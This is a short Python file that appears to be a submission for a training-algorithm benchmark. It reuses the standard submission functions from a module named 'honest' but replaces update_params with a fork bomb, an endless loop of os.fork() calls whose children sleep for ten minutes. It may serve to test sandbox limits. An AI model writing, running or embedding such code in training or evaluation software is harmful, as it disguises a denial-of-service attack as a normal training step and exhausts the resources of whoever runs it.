"""Forks until nobody lets it."""

import os
import time

from honest import data_selection, get_batch_size, init_optimizer_state, prepare_for_eval


def update_params(**arguments):
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
